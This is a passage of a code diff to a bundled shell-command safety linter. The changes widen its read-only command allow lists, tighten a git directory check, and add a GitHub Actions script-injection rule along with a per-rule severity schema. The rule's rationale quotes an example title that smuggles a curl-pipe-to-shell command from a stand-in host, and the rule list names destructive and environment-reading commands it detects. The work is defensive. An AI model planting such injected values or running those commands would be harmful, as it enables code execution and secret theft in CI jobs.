+  if (!resolved2 || resolved2.name !== head[0]) return false;
   const operands = [];
   const options = /* @__PURE__ */ new Set();
   let endOfOptions = false;
   let previousWasOption = false;
-  for (const w of resolved.args) {
+  for (const w of resolved2.args) {
     const v = w.value;
     if (v === void 0) {
       previousWasOption = false;
@@ -46684,10 +54041,57 @@ var read_only_default = {
       rejectNewline: true
     },
     rg: {
-      flags: { "-e": "string", "--regexp": "string", "-f": "string", "-i": "none", "-S": "none", "-F": "none", "-w": "none", "-v": "none", "-c": "none", "-l": "none", "--files-without-match": "none", "-n": "none", "-o": "none", "-A": "number", "-B": "number", "-C": "number", "-H": "none", "-h": "none", "--heading": "none", "--no-heading": "none", "-q": "none", "--column": "none", "-g": "string", "--glob": "string", "-t": "string", "--type": "string", "-T": "string", "--type-not": "string", "--type-list": "none", "--hidden": "none", "--no-ignore": "none", "-u": "none", "-m": "number", "--max-count": "number", "-d": "number", "--max-depth": "number", "-a": "none", "--text": "none", "-z": "none", "-L": "none", "--follow": "none", "--color": "string", "--json": "none", "--stats": "none", "--help": "none", "--version": "none", "--debug": "none" },
+      flags: { "-e": "string", "--regexp": "string", "-f": "string", "-i": "none", "-S": "none", "-F": "none", "-w": "none", "-v": "none", "-c": "none", "-l": "none", "--files-without-match": "none", "-n": "none", "-o": "none", "-A": "number", "-B": "number", "-C": "number", "-H": "none", "-h": "none", "--heading": "none", "--no-heading": "none", "-q": "none", "--column": "none", "-g": "string", "--glob": "string", "-t": "string", "--type": "string", "-T": "string", "--type-not": "string", "--type-list": "none", "--hidden": "none", "--no-ignore": "none", "-u": "none", "-m": "number", "--max-count": "number", "-d": "number", "--max-depth": "number", "-a": "none", "--text": "none", "-z": "none", "-L": "none", "--follow": "none", "--color": "string", "--json": "none", "--stats": "none", "--help": "none", "--version": "none", "--debug": "none", "--files": "none", "--files-with-matches": "none", "--count": "none", "--count-matches": "none", "--ignore-case": "none", "--smart-case": "none", "--case-sensitive": "none", "-s": "none", "--fixed-strings": "none", "--word-regexp": "none", "--line-regexp": "none", "-x": "none", "--invert-match": "none", "--line-number": "none", "--no-line-number": "none", "-N": "none", "--only-matching": "none", "--with-filename": "none", "--no-filename": "none", "--context": "number", "--after-context": "number", "--before-context": "number", "--iglob": "string", "--glob-case-insensitive": "none", "--max-columns": "number", "-M": "number", "--max-columns-preview": "none", "--sort": "string", "--sortr": "string", "--null": "none", "-0": "none", "--vimgrep": "none", "--trim": "none", "--no-messages": "none", "--quiet": "none", "--multiline": "none", "-U": "none", "--multiline-dotall": "none", "--no-ignore-vcs": "none", "--no-ignore-parent": "none", "--no-ignore-dot": "none", "--no-ignore-global": "none", "--unrestricted": "none", "--threads": "number", "-j": "number", "--passthru": "none", "--byte-offset": "none", "-b": "none", "--pretty": "none", "-p": "none", "--no-config": "none", "--one-file-system": "none", "--binary": "none", "--crlf": "none", "--line-buffered": "none", "--block-buffered": "none" },
       attachedNumber: true,
       rejectNewline: true,
-      description: "--pre (runs a preprocessor) is not allowed."
+      source: "https://github.com/BurntSushi/ripgrep/blob/master/GUIDE.md",
+      description: "Listing (--files, with -g/--iglob globs, --type) and searching flags. Not allowed: --pre and --pre-glob (run a preprocessor program), --hostname-bin (runs a program), --ignore-file (reads a file the path check does not see), --replace (kept out: it only rewrites output, but its value is a template)."
+    },
+    wc: {
+      flags: { "-c": "none", "--bytes": "none", "-m": "none", "--chars": "none", "-l": "none", "--lines": "none", "-L": "none", "--max-line-length": "none", "-w": "none", "--words": "none", "--total": "string", "--help": "none", "--version": "none" },
+      source: "https://www.gnu.org/software/coreutils/manual/html_node/wc-invocation.html",
+      description: "Counts; writes nothing. --files0-from is left out: it reads the files named inside another file, which the path check does not see."
+    },
+    du: {
+      flags: { "-0": "none", "--null": "none", "-a": "none", "--all": "none", "-A": "none", "--apparent-size": "none", "-B": "string", "--block-size": "string", "-b": "none", "--bytes": "none", "-c": "none", "--total": "none", "-D": "none", "--dereference-args": "none", "-d": "number", "--max-depth": "number", "-g": "none", "-H": "none", "-h": "none", "--human-readable": "none", "--inodes": "none", "-k": "none", "-L": "none", "--dereference": "none", "-l": "none", "--count-links": "none", "-m": "none", "-P": "none", "--no-dereference": "none", "-r": "none", "-S": "none", "--separate-dirs": "none", "--si": "none", "-s": "none", "--summarize": "none", "-t": "string", "--threshold": "string", "--time": "none", "--time-style": "string", "--exclude": "string", "-I": "string", "-x": "none", "--one-file-system": "none", "--help": "none", "--version": "none" },
+      attachedNumber: true,
+      source: "https://www.gnu.org/software/coreutils/manual/html_node/du-invocation.html",
+      description: "Disk usage; writes nothing. --files0-from and -X/--exclude-from are left out: they read files the path check does not see. -A, -g, -I, -r are the BSD du flags (https://man.freebsd.org/cgi/man.cgi?du)."
+    },
+    "bash -n": {
+      flags: {},
+      source: "https://www.gnu.org/software/bash/manual/html_node/The-Set-Builtin.html",
+      description: "Syntax check: bash reads the script and executes nothing. No other flag: -i (interactive) would make bash ignore -n, and -c would name code."
+    },
+    "sh -n": {
+      flags: {},
+      source: "https://pubs.opengroup.org/onlinepubs/9799919799/utilities/sh.html",
+      description: "Syntax check (POSIX noexec: read commands, execute none; ignored only by interactive shells). No other flag, for the reason given under bash -n."
+    },
+    "dpkg -l": {
+      flags: {},
+      source: "https://man7.org/linux/man-pages/man1/dpkg-query.1.html",
+      description: "Lists installed packages (dpkg runs dpkg-query -l); writes nothing. Its pager starts only when the output is a terminal."
+    },
+    "dpkg-query -l": {
+      flags: { "--no-pager": "none" },
+      source: "https://man7.org/linux/man-pages/man1/dpkg-query.1.html",
+      description: "Lists installed packages; writes nothing."
+    },
+    "dpkg-query -W": {
+      flags: { "--no-pager": "none" },
+      source: "https://man7.org/linux/man-pages/man1/dpkg-query.1.html",
+      description: "Shows installed packages (default format; --showformat is left out: its ${…} fields read as expansions)."
+    },
+    "dpkg-query -s": {
+      flags: {},
+      source: "https://man7.org/linux/man-pages/man1/dpkg-query.1.html",
+      description: "Shows a package's status; writes nothing."
+    },
+    "dpkg-query -L": {
+      flags: {},
+      source: "https://man7.org/linux/man-pages/man1/dpkg-query.1.html",
+      description: "Lists the files a package installed; writes nothing."
     },
     sha256sum: {
       flags: { "-b": "none", "--binary": "none", "-t": "none", "--text": "none", "-c": "none", "--check": "none", "--ignore-missing": "none", "--quiet": "none", "--status": "none", "--strict": "none", "-w": "none", "--warn": "none", "--tag": "none", "-z": "none", "--zero": "none", "--help": "none", "--version": "none" }
@@ -46824,7 +54228,7 @@ var read_only_default = {
       dashNumber: true
     },
     "git status": {
-      flags: { "--short": "none", "-s": "none", "--branch": "none", "-b": "none", "--porcelain": "none", "--long": "none", "--verbose": "none", "-v": "none", "--untracked-files": "string", "-u": "string", "--ignored": "none", "--ignore-submodules": "string", "--column": "none", "--no-column": "none", "--ahead-behind": "none", "--no-ahead-behind": "none", "--renames": "none", "--no-renames": "none", "--find-renames": "string", "-M": "string" },
+      flags: { "--short": "none", "-s": "none", "--branch": "none", "-b": "none", "--porcelain": "optional", "--long": "none", "--verbose": "none", "-v": "none", "--untracked-files": "string", "-u": "string", "--ignored": "none", "--ignore-submodules": "string", "--column": "optional", "--no-column": "none", "--ahead-behind": "none", "--no-ahead-behind": "none", "--renames": "none", "--no-renames": "none", "--find-renames": "string", "-M": "string" },
       dashNumber: true
     },
     "git blame": {
@@ -46869,6 +54273,32 @@ var read_only_default = {
     },
     "git describe": {
       flags: { "--tags": "none", "--match": "string", "--exclude": "string", "--long": "none", "--abbrev": "number", "--always": "none", "--contains": "none", "--first-match": "none", "--exact-match": "none", "--candidates": "number", "--dirty": "none", "--broken": "none" },
+      dashNumber: true
+    },
+    "git ls-tree": {
+      flags: { "-d": "none", "-r": "none", "-t": "none", "-l": "none", "--long": "none", "-z": "none", "--name-only": "none", "--name-status": "none", "--object-only": "none", "--full-name": "none", "--full-tree": "none", "--abbrev": "optional", "--format": "string" },
+      source: "https://git-scm.com/docs/git-ls-tree",
+      description: "Lists the contents of a tree object; writes nothing.",
+      dashNumber: true
+    },
+    "git check-ignore": {
+      flags: { "-q": "none", "--quiet": "none", "-v": "none", "--verbose": "none", "-z": "none", "-n": "none", "--non-matching": "none", "--no-index": "none" },
+      source: "https://git-scm.com/docs/git-check-ignore",
+      description: "Reports which paths .gitignore rules exclude; writes nothing. --stdin is left out (paths from input are not checked).",
+      dashNumber: true
+    },
+    "git show-ref": {
+      flags: { "--head": "none", "-d": "none", "--dereference": "none", "-s": "none", "--hash": "optional", "--abbrev": "optional", "--tags": "none", "--heads": "none", "--branches": "none", "--verify": "none", "--exists": "none", "-q": "none", "--quiet": "none" },
+      source: "https://git-scm.com/docs/git-show-ref",
+      description: "Lists references; writes nothing.",
+      dashNumber: true
+    },
+    "git --version": {
+      flags: { "--build-options": "none" },
+      source: "https://git-scm.com/docs/git#Documentation/git.txt---version",
+      dangerous: [
+        { kind: "noPositionals", description: "git --version takes no operand." }
+      ],
       dashNumber: true
     },
     "git cat-file": {
@@ -46923,7 +54353,7 @@ var read_only_default = {
   fallback: {
     description: "SPEC §3.3.4. `generic`: the command's text starts with the name, then whitespace or the end, and the rest matches `genericRest`. `forms`: hand-written forms, checked on the argument words after the name. `gitException`: when flag parsing did not accept the command, a fallback match does not count if the text contains `git` and any of these patterns (SPEC §3.3.2 item 5).",
     genericRest: "^(?:\\s[^<>()$`|{}&;\\n\\r]*)?$",
-    generic: ["docker ps", "docker images", "cal", "uptime", "cat", "head", "tail", "wc", "stat", "strings", "hexdump", "od", "nl", "id", "uname", "free", "df", "du", "locale", "groups", "nproc", "basename", "dirname", "realpath", "cut", "paste", "tr", "column", "tac", "rev", "fold", "expand", "unexpand", "fmt", "comm", "cmp", "numfmt", "readlink", "diff", "true", "false", "sleep", "which", "type", "expr", "test", "getconf", "seq", "tsort", "pr", "ls"],
+    generic: ["docker ps", "docker images", "cal", "uptime", "cat", "head", "tail", "stat", "strings", "hexdump", "od", "nl", "id", "uname", "free", "df", "locale", "groups", "nproc", "basename", "dirname", "realpath", "cut", "paste", "tr", "column", "tac", "rev", "fold", "expand", "unexpand", "fmt", "comm", "cmp", "numfmt", "readlink", "diff", "true", "false", "sleep", "which", "type", "expr", "test", "getconf", "seq", "tsort", "pr", "ls"],
     forms: {
       echo: {
         argPatterns: ["^'[^']*'$", '^"[^"$<>\\n]*"$', "^[^|;&`$(){}<>#\\\\!\"'\\s]+$"],
@@ -46950,12 +54380,16 @@ var read_only_default = {
       python: {
         minArgs: 1,
         maxArgs: 1,
-        argPatterns: ["^--version$"]
+        argPatterns: ["^(?:--version|-V|-VV)$"],
+        source: "https://docs.python.org/3/using/cmdline.html#cmdoption-V",
+        description: "-V/--version print the version and exit before the interpreter starts (no site import, no code)."
       },
       python3: {
         minArgs: 1,
         maxArgs: 1,
-        argPatterns: ["^--version$"]
+        argPatterns: ["^(?:--version|-V|-VV)$"],
+        source: "https://docs.python.org/3/using/cmdline.html#cmdoption-V",
+        description: "-V/--version print the version and exit before the interpreter starts (no site import, no code)."
       },
       history: {
         maxArgs: 1,
@@ -47081,6 +54515,7 @@ function looksLikeFlag(token) {
 function validArgument(value, type) {
   switch (type) {
     case "none":
+    case "optional":
       return false;
     case "number":
       return /^[0-9]+$/.test(value);
@@ -47139,8 +54574,8 @@ function validateFlags(tokens, spec) {
         i3++;
         continue;
       }
-      const short = !flag.startsWith("--") && flag.length > 2;
-      if (row.attachedNumber && short && inline === void 0) {
+      const short2 = !flag.startsWith("--") && flag.length > 2;
+      if (row.attachedNumber && short2 && inline === void 0) {
         const baseType = flags2.get(flag.slice(0, 2));
         if ((baseType === "number" || baseType === "string") && /^[0-9]+$/.test(flag.slice(2))) {
           items.push({ value: token, role: "flag", flag: flag.slice(0, 2) });
@@ -47148,7 +54583,7 @@ function validateFlags(tokens, spec) {
           continue;
         }
       }
-      if (short) {
+      if (short2) {
         if (inline !== void 0) return fail(`\`${key}\`: the bundle \`${show(token)}\` has a value.`);
         for (const c3 of flag.slice(1)) {
           const t = flags2.get(`-${c3}`);
@@ -47163,6 +54598,12 @@ function validateFlags(tokens, spec) {
     }
     if (type === "none") {
       if (inline !== void 0) return fail(`\`${key}\`: \`${flag}\` takes no value.`);
+      items.push({ value: token, role: "flag", flag });
+      i3++;
+      continue;
+    }
+    if (type === "optional") {
+      if (inline !== void 0 && !/^[A-Za-z0-9_.,:+-]*$/.test(inline)) return fail(`\`${key}\`: \`${show(token)}\` has an unexpected value.`);
       items.push({ value: token, role: "flag", flag });
       i3++;
       continue;
@@ -47345,17 +54786,31 @@ function onlySeparatorsOutside(source, covered) {
   }
   return gapOk(pos, source.length);
 }
+function cdStaysPut(cmd, cwd) {
+  if (cmd.name?.value !== "cd" || cmd.assignments.length > 0 || cmd.redirects.length > 0 || cmd.args.length !== 1) return false;
+  const arg = cmd.args[0];
+  const v = arg.value;
+  if (v === void 0 || hasUnquotedGlob(arg)) return false;
+  if (v === "." || v === "./") return true;
+  if (!v.startsWith("/") || !cwd.startsWith("/")) return false;
+  const norm = (p) => {
+    const parts2 = p.split("/").filter((x) => x !== "" && x !== ".");
+    return parts2.includes("..") ? void 0 : `/${parts2.join("/")}`;
+  };
+  const a2 = norm(v);
+  return a2 !== void 0 && a2 === norm(cwd);
+}
 function gitGuard(parsed, options) {
   const { commands } = parsed;
   if (commands.some((c3) => resolvedName(c3) === "git")) {
-    const cd = commands.find((c3) => ["cd", "pushd", "popd"].includes(resolvedName(c3) ?? ""));
+    const cd = commands.find((c3) => ["cd", "pushd", "popd"].includes(resolvedName(c3) ?? "") && !(options?.cwd !== void 0 && cdStaysPut(c3, options.cwd)));
     if (cd) return no("It runs git after changing directory, where a planted repository could run hooks or config.");
     if (options?.bareRepository) return no("The working directory looks like a bare git repository, whose config and hooks git would use.");
     for (const c3 of commands) {
-      const resolved = resolveCommand(c3);
+      const resolved2 = resolveCommand(c3);
       const paths = [];
-      if (resolved && ["mkdir", "touch", "cp", "mv"].includes(resolved.name)) {
-        for (const a2 of resolved.args) if (a2.value !== void 0 && !a2.value.startsWith("-")) paths.push(a2.value);
+      if (resolved2 && ["mkdir", "touch", "cp", "mv"].includes(resolved2.name)) {
+        for (const a2 of resolved2.args) if (a2.value !== void 0 && !a2.value.startsWith("-")) paths.push(a2.value);
       }
       for (const r of c3.redirects) if (isOutputRedirect(r) && r.target?.value !== void 0) paths.push(r.target.value);
       const bad = paths.find(isGitInternalPath);
@@ -47446,9 +54901,9 @@ function pathProblem(p, ctx, mode) {
   return void 0;
 }
 function pathConstraint(c3, checks, compoundHasCd, ctx, mode) {
-  const resolved = resolveCommand(c3);
-  if (resolved && (resolved.name === "mv" || resolved.name === "cp") && resolved.args.some((a2) => (a2.value ?? a2.raw).startsWith("-"))) {
-    return `${quoteCode(resolved.name)} with options needs approval: options such as \`--target-directory\` move files where the path checks do not look.`;
+  const resolved2 = resolveCommand(c3);
+  if (resolved2 && (resolved2.name === "mv" || resolved2.name === "cp") && resolved2.args.some((a2) => (a2.value ?? a2.raw).startsWith("-"))) {
+    return `${quoteCode(resolved2.name)} with options needs approval: options such as \`--target-directory\` move files where the path checks do not look.`;
   }
   if (compoundHasCd && checks.some((p) => p.operation !== "read")) {
     return "A command that changes directory and then writes needs approval: its relative paths cannot be checked against the working directory.";
@@ -47515,7 +54970,7 @@ function decide(text, parsed, policy, ctx = {}) {
     };
   }
   let cds = 0;
-  let git2 = false;
+  let git3 = false;
   let firstCd;
   for (const c3 of subs) {
     const name2 = resolveCommand(c3)?.name;
@@ -47523,12 +54978,12 @@ function decide(text, parsed, policy, ctx = {}) {
       cds++;
       firstCd ??= c3;
     }
-    if (name2 === "git") git2 = true;
+    if (name2 === "git") git3 = true;
   }
   if (cds > 1) {
     return { behavior: "ask", reason: "multiple-cd", message: "Multiple directory changes in one command need approval.", span: firstCd.span, suggestions: [], ...facts };
   }
-  if (cds === 1 && git2) {
+  if (cds === 1 && git3) {
     return {
       behavior: "ask",
       reason: "cd-git",
@@ -47806,6 +55261,23 @@ var SANDBOX_OUTCOME_MISMATCH = {
   examples: { valid: [], invalid: [] }
 };
 var SANDBOX_RULES = [SANDBOX_EXIT_ERROR, SANDBOX_EXIT_NONZERO, SANDBOX_OUTCOME_MISMATCH, SANDBOX_WROTE_FILES];
+
+// src/checks/workflow/workflow-rules.ts
+var UNTRUSTED_INPUT_IN_RUN = {
+  id: "untrusted-input-in-run",
+  code: "W601",
+  title: "Untrusted event data expanded into a run: script",
+  category: "workflow",
+  severity: { agent: "error", script: "error" },
+  docs: {
+    rationale: 'GitHub Actions replaces every `${{ … }}` in a `run:` script with its value before the shell starts, so the value becomes code. Issue and pull request titles and bodies, comment and review bodies, commit messages and author names, branch names (`github.head_ref`, `github.event.pull_request.head.ref`), wiki page names and discussion texts are written by whoever opens the issue, pushes the branch or posts the comment: a title such as `x"; curl https://evil.example/x | sh #` runs in the job, with its token and secrets. GitHub calls this script injection (https://docs.github.com/en/actions/concepts/security/script-injections).',
+    fix: 'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.issue.title }}` on the step, `echo "$TITLE"` in `run:`. The shell then sees a variable, never code.',
+    exceptions: "Every read of such a property counts, also inside a function (`format()`, `toJSON()`); an expression in `env:`, `with:` or `if:` is not a script and is not reported. Steps in any shell are checked, PowerShell ones too."
+  },
+  sources: ["actionlint:expression", "zizmor:template-injection"],
+  examples: { valid: [], invalid: [] }
+};
+var WORKFLOW_RULES = [UNTRUSTED_INPUT_IN_RUN];
 
 // src/checks/security/order.ts
 var ORDER = {
@@ -48225,7 +55697,7 @@ function scanChunk(s, p, e, out2) {
   out2.push(isGlob ? { kind: "glob", pattern: value, span } : { kind: "string", value, span });
   return false;
 }
-function malformedTokenAt(command, entries) {
+function malformedTokenAt(command, entries2) {
   let inSingle = false;
   let inDouble = false;
   let doubles = 0;
@@ -48251,7 +55723,7 @@ function malformedTokenAt(command, entries) {
     const at = Math.max(lastOpen, 0);
     return { start: at, end: at + 1 };
   }
-  for (const entry of entries) {
+  for (const entry of entries2) {
     if (entry.kind !== "string") continue;
     const v = entry.value;
     let braces = 0;
@@ -48952,10 +56424,10 @@ var jq_system_function_default = defineSecurityCheck(
 // src/checks/security/malformed-token-injection.ts
 function detect14(cmd) {
   const t = cmd.text;
-  const entries = shellQuoteParse(t);
-  if (!entries) return void 0;
-  if (!entries.some((e) => e.kind === "op" && (e.op === ";" || e.op === "&&" || e.op === "||"))) return void 0;
-  const at = malformedTokenAt(t, entries);
+  const entries2 = shellQuoteParse(t);
+  if (!entries2) return void 0;
+  if (!entries2.some((e) => e.kind === "op" && (e.op === ";" || e.op === "&&" || e.op === "||"))) return void 0;
+  const at = malformedTokenAt(t, entries2);
   if (!at) return void 0;
   return {
     start: at.start,
@@ -50136,12 +57608,20 @@ var CHECKS = [
   unicode_whitespace_default,
   zsh_dangerous_command_default
 ];
-var RULES2 = [...CHECKS.flatMap((c3) => c3.rules), ...INPUT_RULES, ...SANDBOX_RULES, ...POLICY_FILE_RULES].sort(
+var RULES2 = [...CHECKS.flatMap((c3) => c3.rules), ...INPUT_RULES, ...SANDBOX_RULES, ...POLICY_FILE_RULES, ...WORKFLOW_RULES].sort(
   (a2, b) => a2.id < b.id ? -1 : a2.id > b.id ? 1 : 0
 );
 var BY_ID = new Map(RULES2.map((r) => [r.id, r]));
 function ruleMeta(id) {
   return BY_ID.get(id);
+}
+var BY_CODE = new Map(RULES2.map((r) => [r.code.toUpperCase(), r]));
+function ruleByName(name2) {
+  return BY_ID.get(name2) ?? BY_CODE.get(name2.toUpperCase());
+}
+function rulesCitingShellcheck(code) {
+  const source = `shellcheck:${code.toUpperCase()}`;
+  return RULES2.filter((r) => r.sources.includes(source)).map((r) => r.id);
 }
 
 // src/config/config.ts
@@ -50157,45 +57637,667 @@ var shellward_config_schema_default = {
   type: "object",
   additionalProperties: false,
   properties: {
-    $schema: { type: "string" },
+    $schema: {
+      type: "string"
+    },
     permissions: {
       type: "object",
       description: "Permission rules, merged with those of .claude/settings.json and .claude/settings.local.json. A deny anywhere beats an allow everywhere.",
       additionalProperties: false,
       properties: {
-        allow: { $ref: "#/definitions/ruleList" },
-        ask: { $ref: "#/definitions/ruleList" },
-        deny: { $ref: "#/definitions/ruleList" },
-        additionalDirectories: { $ref: "#/definitions/directories" }
+        allow: {
+          $ref: "#/definitions/ruleList"
+        },
+        ask: {
+          $ref: "#/definitions/ruleList"
+        },
+        deny: {
+          $ref: "#/definitions/ruleList"
+        },
+        additionalDirectories: {
+          $ref: "#/definitions/directories"
+        }
       }
     },
-    additionalDirectories: { $ref: "#/definitions/directories" },
+    additionalDirectories: {
+      $ref: "#/definitions/directories"
+    },
     rules: {
       type: "object",
       description: "Severity per rule id: off, note, warning or error (overrides the rule's default for every profile).",
-      propertyNames: { pattern: "^[a-z][a-z0-9]*(-[a-z0-9]+)*$" },
-      additionalProperties: { enum: ["off", "note", "warning", "error"] }
+      propertyNames: {
+        pattern: "^[a-z][a-z0-9]*(-[a-z0-9]+)*$"
+      },
+      properties: {
+        "backslash-escaped-operators": {
+          description: "S221: Backslash-escaped shell operator",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "backslash-escaped-whitespace": {
+          description: "S215: Backslash-escaped space or tab",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "brace-expansion": {
+          description: "S216: Unquoted brace expansion",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "carriage-return": {
+          description: "S224: Carriage return outside double quotes",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "command-substitution": {
+          description: "S208: Command substitution, process substitution or run-time expansion",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "comment-quote-desync": {
+          description: "S222: Quote character inside a comment",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "control-characters": {
+          description: "S217: Non-printable control character in a command",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "crlf-line-endings": {
+          description: "P103: Script has CRLF line endings",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "dangerous-variables": {
+          description: "S206: Variable in a redirection or pipe",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "file-skipped": {
+          description: "I901: File could not be analysed",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "find-delete": {
+          description: "D314: find -delete / -exec rm removes every match",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "git-branch-force-delete": {
+          description: "D308: git branch -D deletes a branch even when unmerged",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "git-checkout-discard": {
+          description: "D305: git checkout . discards working-tree changes",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "git-clean-force": {
+          description: "D304: git clean -f deletes untracked files",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "git-commit-amend": {
+          description: "D310: git commit --amend rewrites the last commit",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "git-commit-substitution": {
+          description: "S212: Command substitution in a git commit message",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "git-no-verify": {
+          description: "D309: --no-verify skips git hooks",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "git-push-delete": {
+          description: "D303: git push --delete removes a remote branch or tag",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "git-push-force": {
+          description: "D302: git push --force overwrites remote history",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "git-reset-hard": {
+          description: "D301: git reset --hard discards uncommitted changes",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "git-restore-discard": {
+          description: "D306: git restore . discards working-tree changes",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "git-stash-drop": {
+          description: "D307: git stash drop/clear removes stashed changes",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "ifs-injection": {
+          description: "S211: Use of the IFS variable",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "incomplete-commands": {
+          description: "S201: Command that looks like an incomplete fragment",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "input-redirection": {
+          description: "S209: Input redirection",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "internal-error": {
+          description: "I902: shellward failed on this input",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "invalid-utf8": {
+          description: "I906: File is not valid UTF-8",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "jq-file-arguments": {
+          description: "S203: jq flag that loads a program or data from a file",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "jq-system-function": {
+          description: "S202: jq program that calls system()",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "kubectl-delete": {
+          description: "D317: kubectl delete removes cluster resources",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "malformed-token-injection": {
+          description: "S214: Command separators with unbalanced tokens",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "mid-word-hash": {
+          description: "S219: Unquoted # in the middle of a word",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        newlines: {
+          description: "S207: Newline that separates commands",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "obfuscated-flags": {
+          description: "S204: Flag name hidden by quoting",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "output-redirection": {
+          description: "S210: Output redirection",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "parse-error": {
+          description: "P101: Shell syntax that does not parse",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "parse-too-complex": {
+          description: "P102: Command too complex to prove safe statically",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "path-dangerous-removal": {
+          description: "F401: Removal of the root, home or a top-level directory",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "path-outside-workdir": {
+          description: "F402: Write outside the working directories",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "policy-ask": {
+          description: "R502: Command needs approval under the permission policy",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "policy-deny": {
+          description: "R501: Command matches a deny rule of the permission policy",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "policy-overbroad-allow": {
+          description: "R503: Allow rule admits arbitrary code",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "proc-environ-access": {
+          description: "S213: Access to /proc/*/environ",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "quote-parser-differential": {
+          description: "S225: Single-quoted string ending in a backslash",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "quoted-newline": {
+          description: "S223: Quoted newline followed by a #-line",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "rm-force": {
+          description: "D313: rm -f removes files without asking",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "rm-recursive": {
+          description: "D312: rm -r removes directories recursively",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "rm-recursive-force": {
+          description: "D311: rm -rf removes files recursively without asking",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "sandbox-exit-error": {
+          description: "X502: The command failed when it ran in the sandbox",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "sandbox-exit-nonzero": {
+          description: "X503: The command exited non-zero without failing",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "sandbox-outcome-mismatch": {
+          description: "X504: The recorded outcome of a call differs from the sandbox's",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "sandbox-wrote-files": {
+          description: "X501: A command classified read-only wrote files when it ran",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "sed-unsafe-expression": {
+          description: "F403: sed script that writes a file or runs a command",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "shell-metacharacters": {
+          description: "S205: Shell metacharacters in a quoted argument with a stray quote",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "shell-not-analysed": {
+          description: "I907: Code in a shell shellward does not analyse",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "source-parse-error": {
+          description: "I908: File could not be parsed as its kind",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "sql-delete-all": {
+          description: "D316: SQL DELETE without WHERE removes every row",
+          enum: [
+            "off",
+            "note",
+            "warning",
+            "error"
+          ]
+        },
+        "sql-drop-truncate": {
+          description: "D315: SQL DROP/TRUNCATE removes database objects",
+          enum: [
+            "off",
